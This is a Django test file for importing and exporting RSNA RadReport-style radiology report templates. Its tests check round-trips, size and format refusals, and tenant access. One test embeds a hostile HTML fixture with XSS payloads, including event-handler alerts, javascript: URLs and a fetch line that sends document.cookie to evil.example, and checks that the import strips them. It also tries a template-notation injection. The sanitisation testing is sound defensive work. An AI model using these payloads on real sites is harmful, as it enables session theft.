"""IHE MRRT / RSNA RadReport templates in and out, through the management pages: a RadReport-
style file imports to our notation and is offered in the panel; an exported template imports
back to the same one; hostile, oversized and non-template files are refused or defused."""

from __future__ import annotations

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.reports.templating.conftest import client_for

# Written as RSNA's RadReport library publishes MRRT templates: Dublin Core metadata, the
# template_attributes XML block, level1 sections with headers, a nested level2 section, and
# text, number, selection and radio fields with labels.
RADREPORT_CT_ABDOMEN = """<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta charset="UTF-8"/>
<title>CT Abdomen and Pelvis</title>
<script type="text/xml">
<template_attributes>
  <top-level-flag>true</top-level-flag>
  <status>ACTIVE</status>
  <coding_schemes><coding_scheme name="RADLEX" designator="2.16.840.1.113883.6.256"/></coding_schemes>
  <term><code meaning="abdomen" value="RID56" scheme="RADLEX"/></term>
</template_attributes>
</script>
<meta name="dcterms.title" content="CT Abdomen and Pelvis"/>
<meta name="dcterms.identifier" content="http://radreport.org/template/0000042"/>
<meta name="dcterms.description" content="CT of the abdomen and pelvis."/>
<meta name="dcterms.type" content="IMAGE_REPORT_TEMPLATE"/>
<meta name="dcterms.language" content="en"/>
<meta name="dcterms.publisher" content="Radiological Society of North America (RSNA)"/>
<style>section { margin: 1em; }</style>
</head>
<body>
<section id="clinicalInformation" class="level1" data-section-name="Clinical Information">
  <header class="level1">Clinical Information</header>
  <p><textarea id="T100" name="Clinical information" data-field-type="TEXT"></textarea></p>
</section>
<section id="procedure" class="level1" data-section-name="Procedure">
  <header class="level1">Procedure</header>
  <p>CT of the abdomen and pelvis
    <select id="T101" name="Contrast" data-field-type="SELECTION">
      <option value="with">with</option>
      <option value="without" selected="selected">without</option>
    </select> intravenous contrast.</p>
</section>
<section id="findings" class="level1" data-section-name="Findings">
  <header class="level1">Findings</header>
  <section id="liver" class="level2" data-section-name="Liver">
    <header class="level2">Liver</header>
    <p><label for="T102">Liver</label>: <textarea id="T102" name="Liver" data-field-type="TEXT">Normal
      size and attenuation.</textarea></p>
  </section>
  <p><label for="T103">Spleen length</label> <input type="number" id="T103" name="Spleen length"
     data-field-type="NUMBER"/> cm</p>
  <p>Ascites:
    <label><input type="radio" name="ascites" value="none" checked="checked"/>None</label>
    <label><input type="radio" name="ascites" value="small"/>Small</label>
    <label><input type="radio" name="ascites" value="large"/>Large</label></p>
</section>
<section id="impression" class="level1" data-section-name="Impression">
  <header class="level1">Impression</header>
  <p><textarea id="T104" name="Impression" data-field-type="TEXT"></textarea></p>
</section>
</body>
</html>
"""


def _import(client, owner_key: str, content: bytes, **fields: str):
    upload = SimpleUploadedFile("template.html", content, content_type="text/html")
    return client.post(
        f"/reports/templates/manage/{owner_key}/templates/import/", {"file": upload, **fields}
    )


def test_a_radreport_template_imports_and_is_offered_for_its_studies(reading):
    from reports.templating.models import ReportTemplate
    from tenants.models import AuditAction, AuditEvent

    people = reading.people
    response = _import(
        client_for(people.alice), f"t-{people.demo.pk}", RADREPORT_CT_ABDOMEN.encode(),
        modality="CT", body_part="ABDOMEN",
    )  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:2000]
    made = ReportTemplate.objects.get(tenant=people.demo)
    assert (made.name, made.modality, made.body_part, made.description) == (
        "CT Abdomen and Pelvis", "CT", "ABDOMEN", "CT of the abdomen and pelvis."
    )  # fmt: skip
    assert made.sections() == {
        "clinical_information": "[[clinical_information]]",
        "technique": "CT of the abdomen and pelvis [[contrast:with|without*]] intravenous "
        "contrast.",
        "comparison": "",
        "findings": "Liver\nLiver: [[liver:text:Normal size and attenuation.]]\n"
        "Spleen length [[spleen_length:number]] cm\nAscites: [[ascites:None*|Small|Large]]",
        "impression": "[[impression]]",
    }
    assert response["Location"] == f"/reports/templates/manage/templates/{made.pk}/"
    event = AuditEvent.objects.get(action=AuditAction.TEMPLATE_CHANGE)
    assert event.detail == {"template": made.pk, "change": "import"}

    item = reading.item(modality="CT", body_part="ABDOMEN")
    panel = client_for(reading.bob).get(f"/reports/templates/items/{item.pk}/panel/")
    html = panel.content.decode()
    assert "Use template <strong>CT Abdomen and Pelvis</strong>" in html
    assert '<option value="Small">Small</option>' in html


def test_an_exported_template_imports_back_to_the_same_template(reading, library):
    from reports.models import SECTIONS
    from reports.templating.models import ReportTemplate

    people = reading.people
    alice = client_for(people.alice)
    exported = alice.get(f"/reports/templates/manage/templates/{library.ct_chest.pk}/export/")
    assert exported.status_code == 200
    assert exported["Content-Disposition"] == 'attachment; filename="ct-chest.html"'
    response = _import(alice, f"t-{people.demo.pk}", exported.content)
    # The same name is taken in the same hospital: a clear refusal, nothing created.
    assert response.status_code == 400
    assert "already has a template named “CT chest”" in response.content.decode()
    response = _import(alice, f"t-{people.demo.pk}", exported.content, name="CT chest (copy)")
    assert response.status_code == 302
    copy = ReportTemplate.objects.get(name="CT chest (copy)")
    original = library.ct_chest
    assert (copy.modality, copy.body_part) == (original.modality, original.body_part)
    assert {s: getattr(copy, s) for s in SECTIONS} == original.sections()


def test_scripts_attributes_and_embedded_content_do_not_survive_an_import(reading):
    """Only text and fields are kept: what was code in the file is gone, and what is left is
    plain text that our pages escape."""
    from reports.templating.models import ReportTemplate

    hostile = b"""<html><head><title>Innocent</title><script>alert('head')</script>
    <meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="alert(1)">
    <section data-section-name="Findings" onmouseover="alert(2)"><header>Findings</header>
    <p style="background:url(javascript:alert(3))">Normal <b>liver</b>.<img src=x onerror="alert(4)">
    <script>fetch('https://evil.example/?c='+document.cookie)</script><iframe src="https://evil.example/"></iframe>
    <a href="javascript:alert(5)">see here</a> [[stolen:text]] <svg><script>alert(6)</script></svg>
    <select name="pick" onchange="alert(7)"><option>one<script>alert(8)</script></option><option>two]]</option></select>
    <object data="evil.swf"></object><style>*{}</style></p>
    </section></body></html>"""
    response = _import(client_for(reading.people.alice), f"t-{reading.people.demo.pk}", hostile)
    assert response.status_code == 302
    made = ReportTemplate.objects.get(name="Innocent")
    assert made.findings == "Normal liver. see here [ [stolen:text] ] [[pick:one|two]]"
    stored = " ".join([made.name, made.description, *made.sections().values()])
    for trace in ("alert", "evil", "script", "<", "javascript", "onerror"):
        assert trace not in stored


def test_an_oversized_file_is_refused_with_413(reading):
    from reports.templating.models import ReportTemplate

    big = RADREPORT_CT_ABDOMEN.replace(
        "<p>Ascites", "<p>" + "padding " * 80_000 + "</p><p>Ascites"
    ).encode()
    response = _import(client_for(reading.people.alice), f"t-{reading.people.demo.pk}", big)
    assert response.status_code == 413
    assert "larger than 512 KB" in response.content.decode()
    assert not ReportTemplate.objects.exists()


def test_files_that_are_not_templates_are_refused_saying_why(reading):
    from reports.templating.models import ReportTemplate

    alice = client_for(reading.people.alice)
    owner = f"t-{reading.people.demo.pk}"
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    cases = {
        png: "it looks like a binary file",
        b"<html><body><p>Hello</p></body></html>": "it has no &lt;section&gt; elements",
        b"": "The file is empty",
        b"<section><p>No title</p></section>": "The template has no title",
        b"<title>T</title><section><header>Findings</header></section>": "hold no text",
        b"<title>T</title><section>Size [[size:nmber]]</section>": "[ [size:nmber] ]",
        b"<title>D</title><section>" + b"<div>" * 150 + b"deep</section>": "more than 100 deep",
        b"<title>F</title><section>"
        + b"".join(b'<input name="f%d">' % n for n in range(201))
        + b"</section>": "more than 200 fields",
    }
    for content, why in cases.items():
        response = _import(alice, owner, content)
        text = response.content.decode()
        if why.startswith("[ ["):
            # Our notation inside a file is only text: it cannot inject a field.
            assert response.status_code == 302
            assert ReportTemplate.objects.get(name="T").findings == "Size [ [size:nmber] ]"
            continue
        assert response.status_code == 400, (why, text[:500])
        assert "The file was not imported" in text and why in text, why
    assert ReportTemplate.objects.count() == 1


def test_importing_into_a_hospital_one_does_not_administer_is_404(reading):
    response = _import(
        client_for(reading.people.charlie),
        f"t-{reading.people.demo.pk}",
        RADREPORT_CT_ABDOMEN.encode(),
    )
    assert response.status_code == 404
